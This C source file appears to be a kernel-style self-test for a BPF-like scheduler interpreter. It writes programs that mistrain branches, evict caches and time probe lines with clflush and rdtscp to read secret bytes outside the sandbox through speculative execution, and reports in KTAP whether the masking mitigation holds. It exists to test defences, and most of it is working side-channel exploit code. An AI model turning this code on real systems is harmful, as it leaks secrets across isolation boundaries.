// SPDX-License-Identifier: GPL-2.0
/*
 * Tries to read secrets outside of the sandbox through speculation, with programs
 * that use what the interpreter once left open:
 *
 * frame	the handler of a load from the frame is taken for that of a jump, whose
 *		immediate is then an offset from the frame, of 32 bits
 * target	a 16-byte load is taken for a jump, and its immediate for where that
 *		leads: what lies there is taken for an instruction
 *
 * The program alone makes the processor believe the wrong thing, and removes from
 * the caches what would tell it better. What it has read shows by which line of
 * one of its own sections is in the cache afterwards; that is timed here, as a
 * process can that has mapped the section.
 *
 *	interp-speculation [--unmasked] [GADGET [SECRETS [ROUNDS]]]
 *
 * With --unmasked the same is tried with the engine that has no masks, which is to
 * leak.
 *
 * Each secret is one of 256 values, and the guess is what was in the cache more
 * often than without a secret. By chance one of 256 guesses is right: more than
 * LUCK are a leak, if it happens again with other secrets. What else the machine
 * does makes guesses wrong, and none right. That nothing leaks says nothing on a
 * machine where the interpreter with the hole does not leak either: see
 * speculation_test.py. Prints KTAP.
 */
#include <linux/kernel.h>

#include <sys/mman.h>
#include <time.h>
#include <x86intrin.h>

#include "engine.h"
#include "interp.h"

/* With 32 secrets, four right guesses come by chance once in 130,000 times. */
#define SECRETS_DEFAULT	32
#define LUCK		3
#define ROUNDS_DEFAULT	1000

#define VALUES		256
#define LINE_STEP	4096	/* from one line that is timed to the next */
#define EVICTION	(8 << 20)
#define SAMPLES		1001	/* of how long a load takes */
#define PATTERN		200	/* instructions that make the way the same */
#define INSNS_MAX	4096
#define PLACES		64
#define MARGIN		64	/* where the line is in its page, for "target" */

#define die(format, ...)						\
do {									\
	fprintf(stderr, "interp-speculation: " format "\n", ##__VA_ARGS__); \
	exit(1);							\
} while (0)

/**
 * struct draft - the program
 * @insns: its instructions
 * @count: number of @insns
 * @victim: the one that is taken for another
 */
static struct draft {
	struct bpf_insn insns[INSNS_MAX];
	u32 count;
	u32 victim;
} draft;

static u32 put(u8 code, u8 dst, u8 src, s16 off, s32 imm)
{
	draft.insns[draft.count] = (struct bpf_insn) {
		.code = code, .dst_reg = dst, .src_reg = src, .off = off,
		.imm = imm,
	};
	return draft.count++;
}

static void put_lddw(u8 dst, u8 kind, u64 value)
{
	put(BPF_LD | BPF_IMM | BPF_DW, dst, kind, 0, value);
	put(0, 0, 0, 0, value >> 32);
}

static void put_section(u8 dst, s32 section, u32 offset)
{
	put(BPF_LD | BPF_IMM | BPF_DW, dst, BPF_PSEUDO_MAP_IDX_VALUE, 0,
	    section);
	put(0, 0, 0, 0, offset);
}

static u32 put_jump(u8 op, u8 dst, s32 imm)
{
	return put(BPF_JMP | op | BPF_K, dst, 0, 0, imm);
}

static void lead(u32 jump, u32 target)
{
	draft.insns[jump].off = target - (jump + 1);
}

/* What does nothing, and leaves the same trace whatever came before. */
static void put_pattern(u32 count)
{
	while (count--)
		put(BPF_ALU64 | BPF_MOV | BPF_X, 4, 4, 0, 0);
}

/* Reads one line of each page: that of the victim is in no near cache then. */
static void put_eviction(u32 place)
{
	u32 loop;

	put_section(8, 1, place);
	put(BPF_ALU64 | BPF_MOV | BPF_K, 9, 0, 0, EVICTION / 4096 - 1);
	loop = put(BPF_LDX | BPF_MEM | BPF_B, 2, 8, 0, 0);
	put(BPF_ALU64 | BPF_ADD | BPF_K, 8, 0, 0, 4096);
	put(BPF_ALU64 | BPF_ADD | BPF_K, 9, 0, 0, -1);
	lead(put_jump(BPF_JNE, 9, 0), loop);
}

/* The value of r1 chooses a line of section 0, in r6. */
static void put_touch(void)
{
	put(BPF_ALU64 | BPF_LSH | BPF_K, 1, 0, 0, 12);
	put(BPF_ALU64 | BPF_ADD | BPF_X, 1, 6, 0, 0);
	put(BPF_LDX | BPF_MEM | BPF_B, 2, 1, 0, 0);
}

/**
 * struct gadget - a way to read what is outside
 * @name: for people
 * @dispatcher: of which interpreter
 * @draw: write the program; @fill moves the victim in its line, @place is the
 *	line of the victim in its page, @target what it aims at
 * @aim: what the victim has to have in it to read @secret
 * @place: bytes from the start of a double line where the victim has to be
 * @hide: put a secret somewhere
 */
struct gadget {
	const char *name;
	const char *dispatcher;
	void (*draw)(u32 fill, u32 place, u64 target);
	u64 (*aim)(const u8 *secret);
	u32 place;
	void (*hide)(u8 *where, u8 value);
};

static struct interp_state *state;
static u64 cached_cycles;	/* a load that takes less is from a cache */
static u8 *probe, *eviction;
static u8 context[4096];

/* The loop that trains, and the way on which all goes wrong at its end. */
static void put_ways(u32 *train, u32 *strike, u32 *trained, u32 *struck)
{
	u32 loop;

	put(BPF_LDX | BPF_MEM | BPF_DW, 7, 10, -16, 0);
	loop = draft.count;
	put_pattern(PATTERN);
	*train = put_jump(BPF_JA, 0, 0);
	*trained = put(BPF_ALU64 | BPF_ADD | BPF_K, 7, 0, 0, -1);
	lead(put_jump(BPF_JNE, 7, 0), loop);
	put_pattern(PATTERN);
	*strike = put_jump(BPF_JA, 0, 0);
	*struck = put(BPF_JMP | BPF_EXIT, 0, 0, 0, 0);
	put_pattern(300);
}

static void draw_frame(u32 fill, u32 place, u64 target)
{
	u32 train, strike, trained, struck, warm, warmed, back;

	put_section(6, 0, 0);
	put(BPF_ST | BPF_MEM | BPF_DW, 10, 0, -8, 0);
	put(BPF_STX | BPF_MEM | BPF_DW, 10, 2, -16, 0);
	put_eviction(place);
	put(BPF_ALU64 | BPF_MOV | BPF_K, 0, 0, 0, 1);
	put(BPF_ALU64 | BPF_MOV | BPF_K, 1, 0, 0, 0);
	warm = put_jump(BPF_JA, 0, 0);
	warmed = put(BPF_JMP | BPF_CALL, 0, 0, 0, BPFSCHED_FUNC_yield);
	put_ways(&train, &strike, &trained, &struck);

	lead(train, put(BPF_ALU64 | BPF_XOR | BPF_X, 3, 2, 0, 0));
	put(BPF_LDX | BPF_MEM | BPF_B, 1, 10, -8, 0);
	put_touch();
	lead(put_jump(BPF_JA, 0, 0), trained);
	put_pattern(300 + fill);

	lead(strike, put(BPF_ALU64 | BPF_XOR | BPF_X, 3, 2, 0, 0));
	/* r5 is 0, so that the jump is taken. */
	draft.victim = put_jump(BPF_JNE, 5, target);
	lead(draft.victim, struck);
	lead(warm, draft.count);
	put_touch();
	back = put_jump(BPF_JNE, 0, 0);
	lead(back, warmed);
	lead(put_jump(BPF_JA, 0, 0), struck);
}

static u64 aim_frame(const u8 *secret)
{
	return (s32)(secret - (state->stack + INTERP_FRAME_SIZE));
}

static void hide_byte(u8 *where, u8 value)
{
	*where = value;
}

static void draw_target(u32 fill, u32 place, u64 target)
{
	u32 train, strike, trained, struck, warm, warmed, over;

	put(BPF_STX | BPF_MEM | BPF_DW, 10, 2, -16, 0);
	put_eviction(place);
	put(BPF_ALU64 | BPF_MOV | BPF_K, 3, 0, 0, 1);
	warm = put_jump(BPF_JA, 0, 0);
	warmed = put(BPF_ALU64 | BPF_MOV | BPF_K, 3, 0, 0, 0);
	put(BPF_JMP | BPF_CALL, 0, 0, 0, BPFSCHED_FUNC_yield);
	put_section(0, 0, 0);
	put_ways(&train, &strike, &trained, &struck);

	over = put_jump(BPF_JA, 0, 0);
	lead(train, over);
	put_pattern(20);
	lead(over, draft.count);
	put(BPF_LDX | BPF_MEM | BPF_B, 1, 0, 0, 0);
	lead(put_jump(BPF_JA, 0, 0), trained);
	put_pattern(300 + fill);

	draft.victim = draft.count;
	lead(strike, draft.victim);
	put_lddw(9, 0, target);
	lead(warm, draft.count);
	lead(put_jump(BPF_JNE, 3, 0), warmed);
	lead(put_jump(BPF_JA, 0, 0), struck);
}

/* What is taken for an instruction begins with its handler and the operation. */
static u64 aim_target(const u8 *secret)
{
	return (uintptr_t)secret - offsetof(struct interp_insn, off);
}

/* A load with an offset whose upper bits are the secret. */
static void hide_insn(u8 *where, u8 value)
{
	struct interp_insn *insn =
		(void *)(where - offsetof(struct interp_insn, off));

	*insn = (struct interp_insn) {
		.op = INTERP_LDXB, .dst = 1, .src = 0,
		.off = value * LINE_STEP + MARGIN,
	};
}

static const struct gadget gadgets[] = {
	{ "frame", "threaded", draw_frame, aim_frame, 120, hide_byte },
	{ "target", "switch", draw_target, aim_target, 112, hide_insn },
};

static const struct interp_insn *find_victim(const struct interp_image *image)
{
	u32 i;

	for (i = 0; i < image->count; i++)
		if (image->slots[i] == draft.victim &&
		    image->insns[i].op != INTERP_CHECKPOINT)
			return &image->insns[i];
	die("there is no victim");
}

static void *load(const struct gadget *gadget,
		  const struct bpfsched_engine_ops *ops, u32 fill, u32 place,
		  u64 target)
{
	const struct bpfsched_memory sections[] = {
		{ .base = probe, .len = VALUES * LINE_STEP },
		{ .base = eviction, .len = EVICTION },
	};
	struct bpfsched_code code = {
		.insns = draft.insns, .section_count = 2,
		.sections = sections,
	};
	struct bpfsched_log log = {};
	void *image;

	draft.count = 0;
	gadget->draw(fill, place, target);
	code.insn_count = draft.count;
	if (ops->load(&code, &log, &image))
		die("%s", log.text);
	return image;
}

/* The victim's operation has to be in one line and its operand in the next. */
static void *load_in_place(const struct gadget *gadget,
			   const struct bpfsched_engine_ops *ops, u64 target)
{
	u32 place = 0, pass, fill;
	void *image = NULL;

	for (pass = 0; pass < 2; pass++) {
		for (fill = 0; fill < PLACES; fill++) {
			uintptr_t at;

			if (image)
				ops->unload(image);
			image = load(gadget, ops, fill, place, target);
			at = (uintptr_t)find_victim(image);
			if (at % 128 != gadget->place)
				continue;
			if (pass)
				return image;
			place = at % 4096 & ~63;
			break;
		}
	}
	return image;
}

static void flush_probe(void)
{
	u32 i;

	for (i = 0; i < VALUES; i++) {
		_mm_clflush(probe + i * LINE_STEP);
		_mm_clflush(probe + i * LINE_STEP + MARGIN);
	}
	_mm_mfence();
}

static u64 time_load(const u8 *at)
{
	u64 start;
	u32 unused;

	_mm_mfence();
	_mm_lfence();
	start = __rdtscp(&unused);
	READ_ONCE(*at);
	_mm_lfence();
	return __rdtscp(&unused) - start;
}

static int compare_times(const void *left, const void *right)
{
	const u64 *a = left, *b = right;

	return *a < *b ? -1 : *a > *b;
}

/* The median, which interrupts do not change. */
static u64 usual_time(bool cached)
{
	static u64 times[SAMPLES];
	u32 i;

	for (i = 0; i < SAMPLES; i++) {
		if (!cached)
			_mm_clflush(probe);
		times[i] = time_load(probe);
	}
	qsort(times, SAMPLES, sizeof(*times), compare_times);
	return times[SAMPLES / 2];
}

/* Half way between the two: what is in a far cache may be nearer to memory. */
static void find_cached_cycles(void)
{
	u64 cached, memory;

	usual_time(true);
	cached = usual_time(true);
	memory = usual_time(false);
	cached_cycles = memory > cached ? cached + (memory - cached) / 2 : cached;
	printf("# a load takes %llu cycles from a cache, %llu from memory\n",
	       cached, memory);
}

static void time_probe(u32 line, u32 *scores)
{
	u32 i;

	for (i = 0; i < VALUES; i++) {
		/* In an order that no prefetcher knows. */
		u32 value = (i * 167 + 13) % VALUES;

		scores[value] += time_load(probe + value * LINE_STEP + line) <
				 cached_cycles;
	}
}

/* How often each line was in the cache. */
static void attack(const struct gadget *gadget,
		   const struct bpfsched_engine_ops *ops, const u8 *secret,
		   u32 rounds, u32 *scores)
{
	void *image = load_in_place(gadget, ops, gadget->aim(secret));
	u32 line = gadget->hide == hide_insn ? MARGIN : 0, i;

	memset(scores, 0, VALUES * sizeof(*scores));
	for (i = 0; i < rounds; i++) {
		const struct bpfsched_exec_params params = {
			.image = image,
			.context = { .base = context, .len = 2 + i * 7 % 3 },
			.budget_insns = 1000000,
		};
		u32 control = BPFSCHED_CONTROL_RUN;
		struct bpfsched_result result;

		flush_probe();
		/* Whoever owns the secret uses it. */
		READ_ONCE(*secret);
		ops->start(state, &params);
		ops->run(state, &control, &result);
		ops->finish(state);
		time_probe(line, scores);
	}
	ops->unload(image);
}

static u32 guess(const u32 *scores, const u32 *base, u32 rounds)
{
	s32 best = 0;
	u32 value, i;

	value = VALUES;
	for (i = 0; i < VALUES; i++) {
		s32 more = scores[i] - base[i];

		if (base[i] <= rounds / 4 && more > best) {
			best = more;
			value = i;
		}
	}
	return value;
}

static void *make_room(size_t size)
{
	void *room = mmap(NULL, size, PROT_READ | PROT_WRITE,
			  MAP_SHARED | MAP_ANONYMOUS, -1, 0);

	if (room == MAP_FAILED)
		die("out of memory");
	return memset(room, 1, size);
}

/* Returns how many secrets were guessed. */
static u32 try(const struct gadget *gadget,
	       const struct bpfsched_engine_ops *ops, u32 secrets, u32 rounds)
{
	/* Near the state, as far as offsets of 32 bits are concerned. */
	u8 *room = calloc(1, (secrets + 2) * 64);
	u32 scores[VALUES], base[VALUES], right = 0, i;

	if (!room)
		die("out of memory");
	attack(gadget, ops, room + 32, rounds, base);
	for (i = 1; i <= secrets; i++) {
		/* Not 0, which is what reads that were refused give. */
		u8 secret = 1 + rand() % (VALUES - 1);
		u8 *where = room + i * 64 + 32;

		gadget->hide(where, secret);
		attack(gadget, ops, where, rounds, scores);
		right += guess(scores, base, rounds) == secret;
	}
	free(room);
	return right;
}

/* Whether they are guessed, and it is no luck. */
static bool leaks(const struct gadget *gadget,
		  const struct bpfsched_engine_ops *ops, u32 secrets,
		  u32 rounds)
{
	u32 turn;

	for (turn = 0; turn < 2; turn++) {
		u32 right = try(gadget, ops, secrets, rounds);

		printf("# %u of %u secrets outside of the sandbox were read\n",
		       right, secrets);
		fflush(stdout);
		if (right <= LUCK)
			return false;
	}
	return true;
}

static bool test(const struct gadget *gadget, bool has_masks, u32 number,
		 u32 secrets, u32 rounds)
{
	const struct bpfsched_engine_ops *ops =
		bpfsched_engine_find(gadget->dispatcher, has_masks);
	bool failed = ops && leaks(gadget, ops, secrets, rounds);

	printf("%sok %u interp-speculation.%s%s\n", failed ? "not " : "",
	       number, gadget->name, ops ? "" : " # SKIP there is no such engine");
	fflush(stdout);
	return failed;
}

static bool is_wanted(const struct gadget *gadget, const char *name)
{
	return !name || !strcmp(name, gadget->name);
}

int main(int argc, char **argv)
{
	bool has_masks = argc < 2 || strcmp(argv[1], "--unmasked");
	u32 secrets, rounds, count = 0, number = 0;
	bool failed = false;
	size_t i;

	if (!has_masks) {
		argc--;
		argv++;
	}
	secrets = argc > 2 ? atoi(argv[2]) : SECRETS_DEFAULT;
	rounds = argc > 3 ? atoi(argv[3]) : ROUNDS_DEFAULT;
	probe = make_room(VALUES * LINE_STEP);
	eviction = make_room(EVICTION);
	/* From the heap: an offset of 32 bits reaches the secrets from there. */
	state = aligned_alloc(64, round_up(sizeof(*state), 64));
	if (!state)
		die("out of memory");
	memset(state, 0, sizeof(*state));
	srand(time(NULL));
	for (i = 0; i < ARRAY_SIZE(gadgets); i++)
		count += is_wanted(&gadgets[i], argv[1]);
	if (!count)
		die("there is no gadget %s", argv[1]);
	printf("KTAP version 1\n1..%u\n", count);
	find_cached_cycles();
	for (i = 0; i < ARRAY_SIZE(gadgets); i++)
		if (is_wanted(&gadgets[i], argv[1]))
			failed |= test(&gadgets[i], has_masks, ++number,
				       secrets, rounds);
	return failed;
}
